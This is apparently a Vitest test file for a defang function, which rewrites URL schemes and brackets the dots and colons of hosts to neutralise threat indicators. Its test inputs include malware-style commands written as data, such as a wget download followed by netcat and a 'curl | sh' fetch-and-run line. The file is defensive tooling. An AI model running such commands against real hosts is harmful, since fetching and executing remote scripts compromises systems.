import { describe, expect, it } from 'vitest';
import { defang } from './defang.js';

describe('defang', () => {
  it('renames the scheme and brackets every dot of the host, leaving the path', () => {
    expect(defang('http://198.51.100.44/elf.mips')).toBe('hxxp://198[.]51[.]100[.]44/elf.mips');
    expect(defang('https://paste.example.com:8443/raw/a.b?c=d.e'))
      .toBe('hxxps://paste[.]example[.]com:8443/raw/a.b?c=d.e');
    expect(defang('ftp://u@files.example.org/x.sh')).toBe('fxp://u@files[.]example[.]org/x.sh');
    expect(defang('tftp://198.51.100.170/tftp1.sh')).toBe('tfxp://198[.]51[.]100[.]170/tftp1.sh');
    expect(defang('http://example.com')).toBe('hxxp://example[.]com');
  });

  it('brackets the colons of an IPv6 host or address', () => {
    expect(defang('http://[2001:db8::1]:8080/a')).toBe('hxxp://[2001[:]db8[:][:]1]:8080/a');
    expect(defang('2001:db8::1')).toBe('2001[:]db8[:][:]1');
  });

  it('brackets every dot of a domain or an IPv4 address', () => {
    expect(defang('houmen.example.net')).toBe('houmen[.]example[.]net');
    expect(defang('198.51.100.211')).toBe('198[.]51[.]100[.]211');
  });

  it('defangs the URLs and hosts inside a download command', () => {
    expect(defang('wget http://198.51.100.1/a.sh -O x; nc 198.51.100.2 80; ping example.com'))
      .toBe('wget hxxp://198[.]51[.]100[.]1/a.sh -O x; nc 198[.]51[.]100[.]2 80; ping example[.]com');
  });

  it('leaves nothing that a reader would follow, and is stable on its own output', () => {
    const values = ['http://198.51.100.44/elf.mips', 'example.com', '198.51.100.1',
      'curl -s https://example.net/x | sh'];
    for (const value of values) {
      const once = defang(value);
      expect(once).not.toMatch(/https?:\/\/|\b\d+\.\d+\.\d+\.\d+\b|example\.(?:com|net)/);
      expect(defang(once)).toBe(once);
    }
  });
});
